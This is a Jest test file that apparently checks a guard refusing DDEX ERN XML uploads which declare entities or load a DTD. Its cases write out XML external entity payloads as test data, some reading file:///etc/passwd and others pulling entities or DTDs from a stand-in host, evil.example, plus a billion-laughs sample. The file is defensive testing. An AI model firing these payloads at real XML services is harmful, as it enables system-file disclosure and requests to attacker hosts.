// ERN uploads may not declare entities or load a DTD: refused before any XML parser reads them.
import { assertNoEntities } from '@/lib/distribution/ern/read';
import { BadRequest } from '@/lib/platform/errors';

const ROOT = '<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"/>';

describe('assertNoEntities', () => {
  it.each([
    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['a public external entity', '<!DOCTYPE x [<!ENTITY e PUBLIC "-//x" "http://evil.example/e">]>'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'],
    ['billion laughs', '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>'],
    ['an external DTD', '<!DOCTYPE x SYSTEM "file:///etc/passwd">'],
    ['a public DTD', '<!DOCTYPE x PUBLIC "-//x" "http://evil.example/x.dtd">'],
    ['lower case', '<!doctype x [<!entity e system "file:///etc/passwd">]>'],
  ])('refuses %s with "external entities are not allowed"', (_what, doctype) => {
    const xml = `<?xml version="1.0"?>\n${doctype}${ROOT}`;
    expect(() => assertNoEntities(xml)).toThrow(BadRequest);
    expect(() => assertNoEntities(xml)).toThrow(/external entities are not allowed/);
  });

  it('lets a message without a DOCTYPE, or with a bare one, through', () => {
    expect(() => assertNoEntities(`<?xml version="1.0"?>\n${ROOT}`)).not.toThrow();
    expect(() => assertNoEntities(`<!DOCTYPE NewReleaseMessage>${ROOT}`)).not.toThrow();
  });
});
